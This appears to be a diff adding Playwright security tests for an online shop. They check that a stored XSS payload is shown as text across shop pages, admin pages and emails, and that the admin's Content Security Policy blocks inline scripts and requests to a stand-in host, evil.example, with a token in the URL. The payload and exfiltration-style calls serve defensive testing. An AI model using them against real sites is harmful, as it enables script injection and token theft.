@@ -1,0 +1,117 @@
+import { readdir, readFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import type { Page } from '@playwright/test';
+import { expect, openShop, type Shop, test } from '@shop/browser-testing';
+import { openAdmin } from './support/admin-journey';
+import { placeOrder } from './support/orders-journey';
+
+const MARK = 'Hostile';
+const SCRIPT = `${MARK} "'></title></script><script>window.attacked=1</script><img src=x onerror=window.attacked=1>`;
+/** Anything in this file that ran, or that became an element instead of text. */
+const TRACES = 'img[src="x"], [onerror], script:not([src]):not([type="application/json"]):not([type="application/ld+json"])';
+
+let shop: Shop;
+test.beforeAll(async () => {
+  shop = await openShop({ worker: true });
+});
+test.afterAll(() => shop.stop());
+
+async function post(page: Page, path: string, data: object): Promise<string> {
+  const token = await page.evaluate(() => localStorage.getItem('adminToken'));
+  const response = await page.request.post(`${shop.origin}${path}`, { headers: { authorization: `Bearer ${token}` }, data });
+  expect([path, response.status(), await response.text()]).toEqual([path, 201, expect.any(String)]);
+  return ((await response.json()) as { id: string }).id;
+}
+
+/** Writes the script into every free text that a shopper or an admin can fill in. */
+async function storeScripts(page: Page) {
+  const artistId = await post(page, '/api/admin/artists', { name: SCRIPT, location: SCRIPT, story: SCRIPT });
+  const categoryId = await post(page, '/api/admin/categories', { name: SCRIPT, slug: 'hostile' });
+  const product = { name: SCRIPT, description: SCRIPT, price: '48.00', categoryId, artistId, stockQuantity: 9 };
+  const productId = await post(page, '/api/admin/products', {
+    ...product,
+    isNew: true,
+    isBestSeller: true,
+    isArtistSeries: true,
+  });
+  const invoice = { clientName: SCRIPT, clientEmail: 'noor@example.com', clientPhone: null, status: 'draft', notes: SCRIPT };
+  const item = { invoiceId: '', productId: 'custom', customProductName: SCRIPT, quantity: 1, unitPrice: '10.00' };
+  const invoiceId = await post(page, '/api/invoices', { invoice, items: [{ ...item, customProductPrice: '10.00' }] });
+  await post(page, '/api/contact', { name: SCRIPT, email: 'noor@example.com', subject: 'general', message: SCRIPT });
+  const address = { street: SCRIPT, city: SCRIPT, state: 'MD', zipCode: '21202', country: 'United States' };
+  const order = await placeOrder(page, shop, { customerName: SCRIPT, shippingAddress: address });
+  await post(page, `/api/admin/orders/${order.id}/notes`, { text: SCRIPT });
+  return { artistId, productId, invoiceId, orderId: order.id };
+}
+
+async function expectHarmless(page: Page, where: string): Promise<void> {
+  const found = await page.evaluate((traces) => {
+    const attacked: unknown = Reflect.get(window, 'attacked');
+    return { attacked, elements: [...document.querySelectorAll(traces)].map(({ outerHTML }) => outerHTML.slice(0, 100)) };
+  }, TRACES);
+  expect([where, found]).toEqual([where, { attacked: undefined, elements: [] }]);
+}
+
+async function visit(page: Page, path: string): Promise<void> {
+  await page.goto(`${shop.origin}${path}`);
+  await expect(page.getByText(MARK).filter({ visible: true }).first()).toBeVisible();
+  await expectHarmless(page, path);
+}
+
+test('a script in any text is shown as text, in the shop, the admin and the emails (threat 68)', async ({ page }) => {
+  test.slow();
+  await openAdmin(page, `${shop.origin}/admin`);
+  const { artistId, productId, orderId } = await storeScripts(page);
+  const shopPages = ['/products', `/products/${productId}`, `/share/${productId}`, '/artists', `/artists/${artistId}`];
+  for (const path of [...shopPages, `/products?search=${encodeURIComponent(SCRIPT)}`, `/order-confirmation/${orderId}`]) {
+    await visit(page, path);
+  }
+  for (const tab of ['products', 'categories', 'artists', 'invoices', 'orders', `orders/${orderId}`, 'messages']) {
+    await visit(page, `/admin/${tab}`);
+  }
+  for (const tab of ['products', 'categories', 'artists', 'invoices']) {
+    await page.goto(`${shop.origin}/admin/${tab}`);
+    await page
+      .getByRole('button', { name: /^Edit .*Hostile|^Edit/ })
+      .first()
+      .click();
+    await expect(page.getByRole('dialog')).toBeVisible();
+    await expectHarmless(page, `the form of ${tab}`);
+  }
+  const folder = join(shop.dataDir, 'mail');
+  const mails = async () => (await readdir(folder).catch(() => [])).filter((name) => name.endsWith('.html'));
+  await expect.poll(async () => (await mails()).length, { timeout: 30_000 }).toBeGreaterThanOrEqual(2);
+  for (const name of await mails()) expect(await readFile(join(folder, name), 'utf8')).not.toMatch(/<(script|img src=x)/);
+});
+
+test('the admin runs no inline script and sends nothing to other hosts (threat 47)', async ({ page, consoleNoise }) => {
+  await openAdmin(page, `${shop.origin}/admin`);
+  const outcome = await page.evaluate(async () => {
+    const script = document.createElement('script');
+    script.textContent = 'window.attacked = 1';
+    document.head.append(script);
+    const image = document.createElement('div');
+    image.innerHTML = '<img src="data:," onerror="window.attacked = 1">';
+    document.body.append(image);
+    const blocked = (request: Promise<unknown>) =>
+      request.then(
+        () => 'sent',
+        () => 'blocked',
+      );
+    const results = [
+      await blocked(fetch('https://evil.example/?token=x')),
+      await blocked(import('https://evil.example/x.js' as string)),
+      await blocked(
+        new Promise((resolve, reject) => {
+          const beacon = new Image();
+          beacon.onload = resolve;
+          beacon.onerror = reject;
+          beacon.src = 'https://evil.example/?token=x';
+        }),
+      ),
+    ];
+    return { attacked: Reflect.get(window, 'attacked') as unknown, results };
+  });
+  expect(outcome).toEqual({ attacked: undefined, results: ['blocked', 'blocked', 'blocked'] });
+  expect(consoleNoise.splice(0).filter((text) => text.includes('Content Security Policy')).length).toBeGreaterThanOrEqual(4);
+});
